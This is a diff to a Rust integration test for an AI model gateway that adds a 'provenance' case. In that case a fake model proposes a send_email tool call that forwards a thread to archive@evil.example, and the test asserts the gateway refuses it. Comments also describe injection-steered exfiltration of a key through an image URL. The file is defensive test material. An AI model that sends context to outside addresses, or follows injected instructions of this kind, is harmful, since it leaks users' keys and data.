@@ -216,6 +216,15 @@ fn serve_one(mut conn: TcpStream, received: &Received) {
 /// What the fake model answers: its text, and the tool call it proposes. Models named `*sre*`
 /// propose deleting a production deployment; the others page the owner they were told of.
 fn proposal(model: &str, email: &str, key: &str) -> (String, &'static str, Value) {
+    if model.contains("prov") {
+        // Steered by what it read: the thread to an outside address, with a key and an owner's
+        // address in its context and a tool's result among what it read.
+        return (
+            "Forwarding the thread.".into(),
+            "send_email",
+            json!({"to": "archive@evil.example", "body": "the thread"}),
+        );
+    }
     if model.contains("exfil") {
         // Steered by an injection: the key into an image URL the chat UI would fetch, a token it
         // decoded, and one link that is fine (its host is in the egress allowlist).
@@ -687,6 +696,7 @@ fn the_openai_sdk_through_the_gateway() {
         &[
             "gpt-*",
             "sre-*",
+            "prov-*",
             "exfil-*",
             "rate-limited",
             "broken-stream",
@@ -704,6 +714,19 @@ fn the_openai_sdk_through_the_gateway() {
         assert_eq!(got[case]["content"], json!(content), "{case}: {got}");
         let a: Value = serde_json::from_str(got[case]["args"].as_str().unwrap()).unwrap();
         assert_eq!(a, args, "{case}");
+    }
+    // The provenance rules: mail to an outside address, proposed after a tool's result with a
+    // key in the context, is refused (the lethal trifecta); the SDK sees the reason as text.
+    for case in ["provenance_whole", "provenance_stream"] {
+        let g = &got[case];
+        assert_eq!(g["calls"], 0, "{case}: {g}");
+        assert_eq!(g["finish"], "stop", "{case}: {g}");
+        let text = g["content"].as_str().unwrap_or_default();
+        assert!(
+            text.contains("[bulwark] The tool call `send_email`")
+                && text.contains("sends data out while the context holds both untrusted content (tool:lookup_owner"),
+            "{case}: {text}"
+        );
     }
     assert_eq!(got["whole"]["usage"], 15);
     assert_eq!(got["models"], json!(["gpt-4o-mini"]), "{got}");
@@ -819,9 +842,9 @@ fn the_openai_sdk_through_the_gateway() {
     let received = received.lock().unwrap();
     assert_eq!(
         received.len(),
-        13 + 4 + 6 + 4,
+        13 + 4 + 6 + 4 + 2,
         "chat: whole, stream, typed, rate-limited, broken, stalled, 2 x 3 sre turns, one budget \
-         request; responses: whole, stream, continued, broken, 2 x 3 sre turns; 4 exfil"
+         request; responses: whole, stream, continued, broken, 2 x 3 sre turns; 4 exfil; 2 provenance"
     );
     for (head, body) in received.iter() {
         let text = body.to_string();
